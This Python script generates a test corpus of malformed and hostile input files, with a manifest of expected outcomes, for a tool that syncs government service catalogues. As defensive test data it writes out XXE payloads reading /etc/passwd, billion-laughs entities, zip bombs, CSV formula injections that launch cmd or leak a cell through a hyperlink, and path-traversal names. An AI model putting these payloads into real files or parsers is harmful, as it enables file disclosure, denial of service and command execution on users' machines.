"""Build tests/corpus/: broken and hostile inputs, and manifest.csv saying what each must do.

    python tests/corpus/make_corpus.py

writes the small inputs to tests/corpus/files/, the good inputs they stand in for to
tests/corpus/good/, and manifest.csv. Deterministic: a second run changes nothing (test_corpus
checks it). The big inputs (a 10 MB cell, a million formatted rows, a zip bomb of gigabytes)
are not kept in git: `write_big(name, folder)` writes one where a test wants it.

Each case is a function: its name, the role it plays in a run (catalogue, list, decisions or
work_orders; the other inputs are the good ones), the outcome (`ok`: the run succeeds and
`rejected` rows of this file are in rejected_rows; `error`: exit 2 with one line naming the
file) and `expect`, a phrase the error line or one of the rejection reasons must hold. Its
docstring says what the input is.
"""

from __future__ import annotations

import csv
import io
import json
import random
import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

from xlsx_parts import (  # noqa: E402
    bomb_sheet,
    parts_deflated,
    raw_zip,
    rows_xml,
    sheet,
    table_xlsx,
    write_streamed_xlsx,
    xlsx_bytes,
)

from catalog_sync.reports.csv import writerows  # noqa: E402

FILES = HERE / "files"
GOOD = HERE / "good"
MANIFEST = HERE / "manifest.csv"
MANIFEST_FIELDS = ("file", "role", "outcome", "rejected", "expect", "big", "what")


def id_number(area: str, birth: str, seq: str) -> str:
    """An 18-character resident ID number with a valid check character (GB 11643)."""
    body = area + birth + seq
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    total = sum(int(d) * w for d, w in zip(body, weights, strict=True))
    return body + "10X98765432"[total % 11]


# --- the good inputs ------------------------------------------------------------------------

CATALOGUE = [
    ["基本编码", "事项名称", "事项类型", "主管部门"],
    ["000101001000", "企业投资项目核准", "行政许可", "发展改革委"],
    ["000201002000", "公共场所卫生许可", "行政许可", "卫生健康委"],
    ["000301003000", "学生资助政策咨询", "公共服务", "教育部门"],
]
LIST = [
    ["实施编码", "基本编码", "事项名称", "事项类型", "实施主体", "行政区划代码"],
    ["11511602AB0001-511602-001", "000101001000", "企业投资项目核准", "行政许可", "区发展改革局",
     "511602000000"],
    ["11511602AB0002-511602-002", "000201002000", "公共场所卫生许可", "行政许可", "区卫生健康局",
     "511602000000"],
    ["11511602AB0003-511602-003", "000301003000", "学生资助政策咨询", "公共服务", "区教育局",
     "511602000000"],
    ["11511602AB0004-511602-004", "", "农村宅基地审批", "行政许可", "区农业农村局",
     "511602000000"],
]  # fmt: skip
DECISIONS = [
    ["文号", "发布日期", "生效日期", "事项名称", "审批部门", "处理决定"],
    ["国发〔2026〕1号", "2026-08-15", "2026-09-01", "公共场所卫生许可", "卫生健康委", "取消"],
    ["", "", "", "企业投资项目核准", "发展改革委", "下放"],
]
PEOPLE = [
    ("张三丰", id_number("511602", "19800101", "123"), "13800138000"),
    ("欧阳娜娜", id_number("510104", "19900215", "246"), "13912345678"),
    ("李四", id_number("511602", "19750630", "369"), "13700001111"),
    ("王小五", id_number("511621", "20010909", "482"), "15600002222"),
]
WORK_ORDERS = [
    ["办件编号", "实施编码", "受理时间", "受理部门", "申请人姓名", "证件号码", "联系电话"],
    ["WO-0001", "11511602AB0001-511602-001", "2026-09-10 09:30", "区发展改革局", *PEOPLE[0]],
    ["WO-0002", "11511602AB0002-511602-002", "2026/9/12", "区卫生健康局", *PEOPLE[1]],
    ["WO-0003", "11511602AB0003-511602-003", "2026年9月15日", "区教育局", *PEOPLE[2]],
    ["WO-0004", "000201002000", "20260916", "区卫生健康局", *PEOPLE[3]],
]
GOOD_FILES = {
    "catalogue": ("catalogue.csv", CATALOGUE),
    "list": ("list.csv", LIST),
    "decisions": ("decisions.csv", DECISIONS),
    "work_orders": ("work-orders.csv", WORK_ORDERS),
}


def csv_bytes(
    rows: Sequence[Sequence[object]], encoding: str = "utf-8", delimiter: str = ","
) -> bytes:
    buf = io.StringIO()
    writerows(buf, rows, delimiter=delimiter, lineterminator="\r\n")  # a NUL on 3.10 too
    return buf.getvalue().encode(encoding)


def json_bytes(rows: Sequence[Sequence[object]]) -> bytes:
    head, *body = rows
    return json.dumps([dict(zip(head, r, strict=True)) for r in body], ensure_ascii=False).encode()


# --- the cases ------------------------------------------------------------------------------


@dataclass
class Case:
    file: str
    role: str
    outcome: str
    rejected: int
    expect: str
    what: str
    make: Callable[..., bytes | None]
    big: bool = False


CASES: list[Case] = []


def case(
    file: str, role: str, outcome: str, rejected: int = 0, expect: str = "", big: bool = False
) -> Callable[[Callable[..., bytes | None]], Callable[..., bytes | None]]:
    def register(fn: Callable[..., bytes | None]) -> Callable[..., bytes | None]:
        what = " ".join((fn.__doc__ or "").split())
        CASES.append(Case(file, role, outcome, rejected, expect, what, fn, big))
        return fn

    return register


# Each supported format truncated


@case("catalogue-truncated-in-quote.csv", "catalogue", "ok", 1, "ends inside a quoted cell")
def _() -> bytes:
    """The file is cut inside a quoted cell of its last row."""
    return csv_bytes(CATALOGUE[:3]) + '000301003000,"学生资助'.encode()


@case("list-truncated-mid-row.csv", "list", "ok", 1, "the required 事项名称 is missing")
def _() -> bytes:
    """The file is cut right after the 实施编码 of its last row."""
    return csv_bytes(LIST[:4]) + b"11511602AB0004-511602-004,"


@case("catalogue-truncated.xlsx", "catalogue", "error", expect="not a readable XLSX workbook")
def _() -> bytes:
    """An XLSX cut in half: no ZIP directory."""
    data = table_xlsx(CATALOGUE)
    return data[: len(data) // 2]


@case("list-truncated.json", "list", "error", expect="is not valid JSON")
def _() -> bytes:
    """A JSON list cut inside a record."""
    data = json_bytes(LIST)
    return data[: len(data) - 40]


@case("decisions-truncated.tsv", "decisions", "ok", 1, "the required 事项名称 is missing")
def _() -> bytes:
    """A tab-separated decision table cut after the 文号 of its last row."""
    return csv_bytes(DECISIONS, delimiter="\t") + "国发〔2026〕2号\t".encode()


@case("work-orders-truncated-in-quote.csv", "work_orders", "ok", 1, "ends inside a quoted cell")
def _() -> bytes:
    """Work orders cut inside a quoted 受理部门 on the last line."""
    return csv_bytes(WORK_ORDERS) + 'WO-0005,11511602AB0001-511602-001,2026-09-20,"区发展'.encode()


@case("list-unclosed-quote-midfile.csv", "list", "error", expect="row 3: a quoted cell opened")
def _() -> bytes:
    """A quote opened in row 3 is never closed: every later line would be one cell."""
    rows = [list(r) for r in LIST]
    text = (
        csv_bytes(rows[:2]).decode()
        + '11511602AB0002-511602-002,000201002000,"公共场所卫生许可\r\n'
    )
    return text.encode() + csv_bytes(rows[3:])


@case("work-orders-unclosed-quote-midfile.csv", "work_orders", "error", expect="is never closed")
def _() -> bytes:
    """A quote opened in the second work order is never closed."""
    head = csv_bytes(WORK_ORDERS[:2]).decode()
    bad = 'WO-0002,11511602AB0002-511602-002,2026/9/12,"区卫生健康局,,,\r\n'
    return (head + bad).encode() + csv_bytes(WORK_ORDERS[3:])


# Wrong extension


@case("list-csv-named.xlsx", "list", "error", expect="has an .xlsx name but is not an XLSX")
def _() -> bytes:
    """CSV text saved under an .xlsx name."""
    return csv_bytes(LIST)


@case("catalogue-xlsx-named.csv", "catalogue", "ok")
def _() -> bytes:
    """A real XLSX workbook saved under a .csv name: read by what it is."""
    return table_xlsx(CATALOGUE)


@case("decisions-json-named.csv", "decisions", "ok")
def _() -> bytes:
    """A JSON list of records saved under a .csv name."""
    return json_bytes(DECISIONS)


@case("list-csv-named.json", "list", "ok")
def _() -> bytes:
    """CSV text saved under a .json name."""
    return csv_bytes(LIST)


@case("catalogue-old-binary.xls", "catalogue", "error", expect="old binary .xls")
def _() -> bytes:
    """An OLE2 compound file (Excel 97-2003, or a password-protected workbook)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


@case("list-pdf-named.csv", "list", "error", expect="is a PDF document")
def _() -> bytes:
    """A PDF saved under a .csv name."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"


@case("list-html-table.xls", "list", "error", expect="is an XML or HTML document")
def _() -> bytes:
    """An HTML table a web system exports with an .xls name."""
    cells = "<td>实施编码</td><td>事项名称</td>"
    return f"<html><body><table><tr>{cells}</tr></table></body></html>".encode()


# Empty and header-only


@case("list-empty.csv", "list", "error", expect="is empty")
def _() -> bytes:
    """Zero bytes."""
    return b""


@case("catalogue-bom-only.csv", "catalogue", "error", expect="is empty")
def _() -> bytes:
    """A UTF-8 byte-order mark and a line break, nothing else."""
    return b"\xef\xbb\xbf\r\n"


@case("list-header-only.csv", "list", "ok")
def _() -> bytes:
    """The header and no item."""
    return csv_bytes(LIST[:1])


@case("work-orders-header-only.csv", "work_orders", "ok")
def _() -> bytes:
    """The work-order header and no work order."""
    return csv_bytes(WORK_ORDERS[:1])


@case("decisions-empty-sheet.xlsx", "decisions", "error", expect="is empty")
def _() -> bytes:
    """A workbook whose only sheet is blank."""
    return xlsx_bytes(sheet(""))


@case("list-empty.json", "list", "error", expect="is empty")
def _() -> bytes:
    """An empty JSON list."""
    return b"[]"


# Mixed and wrong encodings


@case("list-gbk-with-utf8-line.csv", "list", "ok", 1, "is UTF-8 text in a GB18030 file")
def _() -> bytes:
    """A GBK list with one row pasted in as UTF-8."""
    return csv_bytes(LIST[:3], "gbk") + csv_bytes(LIST[3:4], "utf-8") + csv_bytes(LIST[4:], "gbk")


@case("catalogue-utf8-with-gbk-line.csv", "catalogue", "ok", 1, "is GB18030 text in a UTF-8")
def _() -> bytes:
    """A UTF-8 catalogue with one row in GBK."""
    return csv_bytes(CATALOGUE[:2]) + csv_bytes(CATALOGUE[2:3], "gbk") + csv_bytes(CATALOGUE[3:])


@case("list-bom-in-middle.csv", "list", "ok", 1, "repeats the header row")
def _() -> bytes:
    """Two UTF-8 exports (each with a BOM) joined: a BOM and the header again mid-file."""
    bom = b"\xef\xbb\xbf"
    return bom + csv_bytes(LIST[:3]) + bom + csv_bytes([LIST[0], *LIST[3:]])


@case("work-orders-gbk-with-utf8-line.csv", "work_orders", "ok", 1, "mixed encodings")
def _() -> bytes:
    """GBK work orders with one line in UTF-8."""
    return (
        csv_bytes(WORK_ORDERS[:2], "gbk")
        + csv_bytes(WORK_ORDERS[2:3], "utf-8")
        + csv_bytes(WORK_ORDERS[3:], "gbk")
    )


@case("work-orders-utf8-with-gbk-line.csv", "work_orders", "ok", 1, "mixed encodings")
def _() -> bytes:
    """UTF-8 work orders with one line in GBK."""
    return csv_bytes(WORK_ORDERS[:4]) + csv_bytes(WORK_ORDERS[4:], "gbk")


@case("list-utf16.csv", "list", "error", expect="is UTF-16 text")
def _() -> bytes:
    """Excel's 'Unicode text': UTF-16 with a BOM, tab-separated."""
    return csv_bytes(LIST, delimiter="\t").decode().encode("utf-16")


@case("catalogue-not-text.csv", "catalogue", "error", expect="are not UTF-8 or GB18030/GBK")
def _() -> bytes:
    """An ASCII header, then rows of bytes that are text in no encoding read."""
    return b"basic_code,task_name\r\n" + b"\x80\xff\x81\xfe,\xff\xff\x80\r\n" * 5


# NUL bytes


@case("decisions-binary.csv", "decisions", "error", expect="contains NUL bytes")
def _() -> bytes:
    """Random bytes, NULs among them, under a .csv name."""
    return random.Random(6).randbytes(3000)


@case("list-nul-in-late-row.csv", "list", "ok", 1, "holds a NUL character")
def _() -> bytes:
    """A NUL inside a cell of a row beyond the first 4 KB (an export bug, not binary)."""
    rows = [[*LIST[0], "备注"]] + [[*r, "说明" * 700] for r in LIST[1:]]
    rows.append(["11511602AB0005-511602-005", "", "无\x00名事项", "行政许可", "区政务中心", ""])
    return csv_bytes(rows)


@case("work-orders-nul-in-late-row.csv", "work_orders", "ok", 1, "holds a NUL character")
def _() -> bytes:
    """A NUL inside the 受理部门 of a work order beyond the first 64 KB."""
    rows = [[*WORK_ORDERS[0], "备注"]] + [[*r, "说明" * 6000] for r in WORK_ORDERS[1:]]
    rows.append(
        ["WO-0005", "11511602AB0001-511602-001", "2026-09-21", "区\x00中心", "", "", "", ""]
    )
    return csv_bytes(rows)


# Cells far too long


@case("list-long-cell.csv", "list", "ok", 1, "characters long")
def _() -> bytes:
    """An item name of 40,000 characters (Excel holds 32,767 in a cell)."""
    rows = [list(r) for r in LIST]
    rows[4][2] = "超长" * 20_000
    return csv_bytes(rows)


@case("catalogue-ten-mb-cell.csv", "catalogue", "ok", 1, "characters long", big=True)
def _(path: Path) -> None:
    """One 设定依据 cell of 10,000,000 characters."""
    rows = [[*CATALOGUE[0], "设定依据"]] + [[*r, "《条例》"] for r in CATALOGUE[1:]]
    rows[2][4] = "法" * 10_000_000
    path.write_bytes(csv_bytes(rows))


@case("work-orders-ten-mb-cell.csv", "work_orders", "ok", 1, "is longer than 10 MiB", big=True)
def _(path: Path) -> None:
    """A work order whose 受理部门 is 10 MiB of text (a line longer than DuckDB is let read)."""
    rows = [list(r) for r in WORK_ORDERS]
    rows[2][3] = "x" * (10 * 1024 * 1024)
    path.write_bytes(csv_bytes(rows))


# Rows with too many or too few fields


@case("list-too-many-fields.csv", "list", "ok", 1, "has 7 fields where the header has 6")
def _() -> bytes:
    """An item name holding an unquoted comma: the columns after it are shifted."""
    text = csv_bytes(LIST[:4]).decode()
    text += "11511602AB0004-511602-004,,农村宅基地审批,农房,行政许可,区农业农村局,511602000000\r\n"
    return text.encode()


@case("list-too-few-fields-optional.csv", "list", "ok")
def _() -> bytes:
    """Rows that stop after the 事项名称: the missing fields are optional, the rows are padded."""
    return csv_bytes([LIST[0], *(r[:3] for r in LIST[1:])])


@case("catalogue-too-few-fields-required.csv", "catalogue", "ok", 1, "the required 事项名称")
def _() -> bytes:
    """A row holding only its 基本编码."""
    return csv_bytes([*CATALOGUE, ["000401004000"]])


@case("work-orders-too-many-fields.csv", "work_orders", "ok", 1, "has more fields than the header")
def _() -> bytes:
    """A work order with an unquoted comma in its 受理部门."""
    text = csv_bytes(WORK_ORDERS).decode()
    text += "WO-0005,11511602AB0001-511602-001,2026-09-20,区发展,改革局,,,\r\n"
    return text.encode()


@case("work-orders-short-row.csv", "work_orders", "ok", 1, "the required 实施编码 is missing")
def _() -> bytes:
    """A work order holding only its 办件编号."""
    return csv_bytes(WORK_ORDERS) + b"WO-0005\r\n"


@case("work-orders-text-after-quote.csv", "work_orders", "ok", 1, "text after the closing quote")
def _() -> bytes:
    """A quoted cell followed by more text before the comma."""
    text = csv_bytes(WORK_ORDERS).decode()
    text += 'WO-0005,"11511602AB0001-511602-001"x,2026-09-20,区发展改革局,,,\r\n'
    return text.encode()


# Header names: duplicated, or not on the first line


@case("list-duplicate-header.csv", "list", "error", expect="names columns C and D")
def _() -> bytes:
    """Two columns headed 事项名称: which holds the names cannot be guessed."""
    rows = [[*r[:3], r[2] if i else "事项名称", *r[3:]] for i, r in enumerate(LIST)]
    return csv_bytes(rows)


@case("catalogue-duplicate-unmapped-header.csv", "catalogue", "ok")
def _() -> bytes:
    """Two columns headed 备注, which no field reads: no harm."""
    return csv_bytes([[*CATALOGUE[0], "备注", "备注"]] + [[*r, "a", "b"] for r in CATALOGUE[1:]])


@case("catalogue-header-on-row-5.csv", "catalogue", "ok")
def _() -> bytes:
    """A title, a date line and a blank line above the header."""
    return csv_bytes([["广安区政务服务事项基本目录"], ["2026年9月版", "", ""], [], [], *CATALOGUE])


@case("list-header-on-row-3.xlsx", "list", "ok")
def _() -> bytes:
    """A merged title row and a blank row above the header."""
    return xlsx_bytes(sheet(rows_xml([["某县实施清单"], [], *LIST]), merge="A1:F1"))


@case("decisions-header-too-deep.csv", "decisions", "error", expect="no header row found")
def _() -> bytes:
    """35 lines of notes before the header: beyond the 30 rows searched."""
    return csv_bytes([[f"说明第{n}行"] for n in range(35)] + DECISIONS)


# Hostile XLSX


@case("list-formatted-rows.xlsx", "list", "ok")
def _() -> bytes:
    """5,000 formatted empty rows (a fill and styled empty cells) under the list."""
    tail = "".join(
        f'<row r="{r}" s="2" customFormat="1"><c r="A{r}" s="2"/><c r="F{r}" s="2"/></row>'
        for r in range(len(LIST) + 1, len(LIST) + 5001)
    )
    return xlsx_bytes(sheet(rows_xml(LIST) + tail))


@case("list-million-formatted-rows.xlsx", "list", "ok", big=True)
def _(path: Path) -> None:
    """A million formatted empty rows under the list (about 100 MB of sheet XML)."""
    start = len(LIST) + 1

    def rows() -> object:
        for first in range(start, start + 1_000_000, 10_000):
            yield "".join(
                f'<row r="{r}" s="2" customFormat="1"><c r="A{r}" s="2"/><c r="B{r}" s="2"/></row>'
                for r in range(first, first + 10_000)
            )

    write_streamed_xlsx(path, LIST, rows())  # type: ignore[arg-type]


@case("catalogue-zip-bomb-ratio.xlsx", "catalogue", "error", expect="a zip bomb?")
def _() -> bytes:
    """A sheet of 64 MiB of blanks deflated a thousand times: refused by its ratio, unread."""
    return raw_zip(parts_deflated(bomb_sheet(64)))


@case("catalogue-zip-bomb-lying.xlsx", "catalogue", "error", expect="beyond the size its ZIP")
def _() -> bytes:
    """A 48 MiB sheet whose ZIP directory says it is 4 KiB: caught while inflating."""
    data, crc, _ = bomb_sheet(48)
    return raw_zip(parts_deflated((data, crc, 4096)))


@case(
    "catalogue-zip-bomb-gigabytes.xlsx", "catalogue", "error", expect="more than 512 MiB", big=True
)
def _(path: Path) -> None:
    """A sheet declaring 3.5 GiB (4 MB on disk): refused by the ZIP directory, never inflated."""
    path.write_bytes(raw_zip(parts_deflated(bomb_sheet(3584, with_crc=False))))


@case("decisions-far-cell.xlsx", "decisions", "error", expect="spans 1,048,576 rows")
def _() -> bytes:
    """One value at XFD1048576: calamine would allocate the whole grid (the process aborts)."""
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return xlsx_bytes(sheet(rows_xml(DECISIONS) + far))


@case("list-external-links.xlsx", "list", "ok")
def _() -> bytes:
    """Names given by formulas into another workbook (an external link), values cached."""
    rows: list[list[object]] = [list(r) for r in LIST]
    for n, r in enumerate(rows[1:], start=2):
        r[2] = ("formula", f"[1]Sheet1!C{n}|{r[2]}")
    link = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        "</externalBook></externalLink>"
    )
    link_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLinkPath" Target="file:///C:/secret/other.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    return xlsx_bytes(
        sheet(rows_xml(rows)),  # type: ignore[arg-type]
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
        },
        external=True,
    )


XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
LAUGHS = (
    '<!DOCTYPE sst [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    + "]>\n"
)


@case("catalogue-xxe-in-sheet.xlsx", "catalogue", "error", expect="holds a DTD")
def _() -> bytes:
    """A sheet declaring an external entity (file:///etc/passwd) and using it in a cell."""
    cell = '<row r="5"><c r="B5" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    return xlsx_bytes(sheet(rows_xml(CATALOGUE) + cell, doctype=XXE))


@case("list-billion-laughs.xlsx", "list", "error", expect="holds a DTD")
def _() -> bytes:
    """Shared strings declaring a billion-laughs entity (a gigabyte from 1 KB)."""
    sst = (
        '<?xml version="1.0" encoding="UTF-8"?>\n' + LAUGHS + '<sst xmlns="http://schemas.'
        'openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        "<si><t>&lol9;</t></si></sst>"
    )
    return xlsx_bytes(sheet(rows_xml(LIST)), {"xl/sharedStrings.xml": sst})


@case("list-not-a-workbook.xlsx", "list", "error", expect="is a ZIP archive but not an XLSX")
def _() -> bytes:
    """A Word document (a ZIP archive too) saved under an .xlsx name."""
    buf = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buf, "w") as z:
        info = zipfile.ZipInfo("word/document.xml", (2026, 1, 1, 0, 0, 0))
        z.writestr(info, "<w:document/>")
    return buf.getvalue()


# What the fuzzer found (tests/fuzz/regressions/), as corpus inputs: an input there is a mode
# byte, a kind byte and the file's bytes.

REGRESSIONS = HERE.parent / "fuzz" / "regressions"


@case("decisions-fuzz-zip-offset-before-archive.csv", "decisions", "error", expect="damaged")
def _() -> bytes:
    """A ZIP directory pointing before the archive: seek() failed with a bare OSError."""
    return (REGRESSIONS / "zip-directory-points-before-the-archive.bin").read_bytes()[2:]


@case("list-fuzz-zip-made-up-version.tsv", "list", "error", expect="damaged ZIP")
def _() -> bytes:
    """A ZIP directory naming a made-up version: zipfile raised NotImplementedError."""
    return (REGRESSIONS / "zip-directory-made-up-version.bin").read_bytes()[2:]


# Hostile JSON


@case("list-deep.json", "list", "error", expect="levels deep")
def _() -> bytes:
    """A list nested 10,000 deep inside one record."""
    return b'[{"task_code": "X-00000001", "name": ' + b"[" * 10_000 + b"]" * 10_000 + b"}]"


@case("catalogue-duplicate-keys.json", "catalogue", "ok", 1, "names the key '事项名称' twice")
def _() -> bytes:
    """A record naming 事项名称 twice, with different values (JSON keeps the last silently)."""
    head = json_bytes(CATALOGUE)[:-1]
    return head + ', {"基本编码": "000401004000", "事项名称": "甲", "事项名称": "乙"}]'.encode()


@case("decisions-huge-number.json", "decisions", "error", expect="is not readable JSON")
def _() -> bytes:
    """An integer of 5,000 digits (Python refuses to convert more than 4,300)."""
    return b'[{"item_name": "x", "seq": ' + b"9" * 5000 + b"}]"


@case("list-surrogate.json", "list", "ok", 1, "unpaired surrogate")
def _() -> bytes:
    """A name holding an unpaired UTF-16 surrogate (\\ud800), which is not text."""
    head = json_bytes(LIST)[:-1]
    return head + b', {"task_code": "11511602AB0005-511602-005", "name": "\\ud800bad"}]'


@case("list-not-an-object.json", "list", "ok", 1, "is a JSON int, not an object")
def _() -> bytes:
    """A number among the records."""
    return json_bytes(LIST)[:-1] + b", 42]"


@case("work-orders-surrogate.json", "work_orders", "ok", 1, "unpaired surrogate")
def _() -> bytes:
    """Work orders as JSON, one 受理部门 holding an unpaired surrogate."""
    head = json_bytes(WORK_ORDERS)[:-1]
    tail = (
        ', {"办件编号": "WO-0005", "实施编码": "11511602AB0001-511602-001", "受理部门": "\\udfff"}]'
    )
    return head + tail.encode()


# RDF/XML with entities: the tool reads no RDF; such a file as any source is refused unread


RDF_XXE = (
    '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    'xmlns:dct="http://purl.org/dc/terms/"><rdf:Description rdf:about="urn:x">'
    "<dct:title>&xxe;</dct:title></rdf:Description></rdf:RDF>\n"
)


@case("catalogue-xxe.rdf", "catalogue", "error", expect="is an XML or HTML document")
def _() -> bytes:
    """RDF/XML declaring an external entity (file:///etc/passwd)."""
    return RDF_XXE.encode()


@case("decisions-billion-laughs.rdf", "decisions", "error", expect="is an XML or HTML document")
def _() -> bytes:
    """RDF/XML declaring a billion-laughs entity."""
    body = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&lol9;</rdf:RDF>'
    return ('<?xml version="1.0"?>\n' + LAUGHS.replace("sst", "rdf:RDF") + body).encode()


@case("work-orders-rdf-named.csv", "work_orders", "error", expect="is an XML or HTML document")
def _() -> bytes:
    """The RDF/XML with an external entity, saved as work-orders .csv."""
    return RDF_XXE.encode()


# Duplicate codes with conflicting names


@case("catalogue-duplicate-codes.csv", "catalogue", "ok", 1, "with a different name")
def _() -> bytes:
    """A 基本编码 given twice, with two different names."""
    return csv_bytes([*CATALOGUE, ["000101001000", "企业投资项目备案", "行政许可", "发展改革委"]])


@case("list-duplicate-task-codes.csv", "list", "ok", 1, "duplicate 实施编码")
def _() -> bytes:
    """An 实施编码 given twice (once in full-width digits), with two different names."""
    dup = ["１１511602AB0001-511602-001", "", "企业投资项目备案", "行政许可", "区发展改革局", ""]
    return csv_bytes([*LIST, dup])


# Dates in every form a Chinese office writes them


@case("decisions-dates-every-form.csv", "decisions", "ok")
def _() -> bytes:
    """2026-09-01, 2026/9/1, 2026年9月1日, 20260901 and an Excel serial number."""
    head = DECISIONS[0]
    forms = [
        ("2026-08-15", "2026-09-01"),
        ("2026/8/15", "2026/9/1"),
        ("2026年8月15日", "2026年9月1日"),
        ("20260815", "20260901"),
        ("46249", "46266"),
    ]
    names = ["公共场所卫生许可", "企业投资项目核准", "学生资助政策咨询", "农村宅基地审批", "甲事项"]
    actions = ["取消", "下放", "改为备案", "取消", "取消"]
    rows = [
        ["国发〔2026〕1号", issued, effective, name, "", action]
        for (issued, effective), name, action in zip(forms, names, actions, strict=True)
    ]
    return csv_bytes([head, *rows])


@case("decisions-dates-every-form.xlsx", "decisions", "ok")
def _() -> bytes:
    """Dates as a date cell, a bare serial number and the text forms, in a workbook."""
    rows = [
        DECISIONS[0],
        ["国发〔2026〕1号", ("date", "46249"), ("date", "46266"), "公共场所卫生许可", "", "取消"],
        ["", 46249, 46266, "企业投资项目核准", "", "下放"],
        ["", "2026年8月15日", "2026/9/1", "学生资助政策咨询", "", "改为备案"],
        ["", "20260815", "2026-09-01 08:30", "农村宅基地审批", "", "取消"],
    ]
    return table_xlsx(rows)  # type: ignore[arg-type]


@case("decisions-date-chinese-numerals.csv", "decisions", "error", expect="is not a date")
def _() -> bytes:
    """A 生效日期 in Chinese numerals (二〇二六年九月一日): a decision date is never guessed."""
    rows = [list(r) for r in DECISIONS]
    rows[1][2] = "二〇二六年九月一日"
    return csv_bytes(rows)


@case("work-orders-dates-every-form.csv", "work_orders", "ok")
def _() -> bytes:
    """受理时间 as 2026-09-01, 2026/9/1, 2026年9月1日, 20260901 and an Excel serial."""
    rows = [list(r) for r in WORK_ORDERS]
    for r, when in zip(
        rows[1:], ["2026/9/1 08:00", "2026年9月1日", "20260901", "46266"], strict=True
    ):
        r[2] = when
    return csv_bytes(rows)


@case("work-orders-impossible-dates.csv", "work_orders", "ok", 2, "is not a date")
def _() -> bytes:
    """受理时间 2026-02-30 and 2026年13月1日: those two rows rejected, not guessed."""
    rows = [list(r) for r in WORK_ORDERS]
    rows[1][2], rows[2][2] = "2026-02-30", "2026年13月1日"
    return csv_bytes(rows)


# Line ends, formulas and paths in the data


@case("catalogue-cr-line-ends.csv", "catalogue", "ok")
def _() -> bytes:
    """Old Mac line ends: carriage returns only."""
    return csv_bytes(CATALOGUE).replace(b"\r\n", b"\r")


@case("work-orders-cr-line-ends.csv", "work_orders", "ok")
def _() -> bytes:
    """Work orders with carriage returns only."""
    return csv_bytes(WORK_ORDERS).replace(b"\r\n", b"\r")


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "-2+3+cmd|' /C calc'!A0",
]


@case("list-formula-names.csv", "list", "ok")
def _() -> bytes:
    """Item names and agencies that Excel would run as formulas (CSV injection)."""
    rows = [list(r) for r in LIST]
    for n, formula in enumerate(FORMULAS):
        rows.append([f"11511602AB009{n}-511602-09{n}", "", formula, "", formula, ""])
    return csv_bytes(rows)


PATH_NAMES = ["../../etc/x", "..\\..\\windows\\x", "/etc/passwd", "con", "a/b\\c:d"]


@case("list-path-names.csv", "list", "ok")
def _() -> bytes:
    """Item names, codes and agencies that look like paths (a name must never become one)."""
    rows = [list(r) for r in LIST]
    for n, name in enumerate(PATH_NAMES):
        rows.append([f"../../tmp/{n}", "", name, "", name, ""])
    return csv_bytes(rows)


# --- writing --------------------------------------------------------------------------------


def write_big(name: str, folder: Path) -> Path:
    """Write the big input `name` into `folder`; returns its path."""
    (found,) = [c for c in CASES if c.file == name and c.big]
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    found.make(path)
    return path


def small_files() -> dict[str, bytes]:
    return {c.file: c.make() for c in CASES if not c.big}  # type: ignore[misc]


def good_files() -> dict[str, bytes]:
    return {name: csv_bytes(rows) for name, rows in GOOD_FILES.values()}


def manifest_text() -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(MANIFEST_FIELDS)
    for c in CASES:
        writer.writerow([c.file, c.role, c.outcome, c.rejected, c.expect, int(c.big), c.what])
    return buf.getvalue()


def main() -> None:
    for folder, files in ((FILES, small_files()), (GOOD, good_files())):
        folder.mkdir(parents=True, exist_ok=True)
        for old in folder.iterdir():
            if old.name not in files:
                old.unlink()
        for name, data in files.items():
            (folder / name).write_bytes(data)
    MANIFEST.write_text(manifest_text(), encoding="utf-8")
    total = sum(p.stat().st_size for p in FILES.iterdir())
    print(f"{len(CASES)} cases ({sum(c.big for c in CASES)} big, made at test time); "
          f"{total / 1024:,.0f} KiB in {FILES.relative_to(HERE.parent.parent)}")  # fmt: skip


if __name__ == "__main__":
    main()
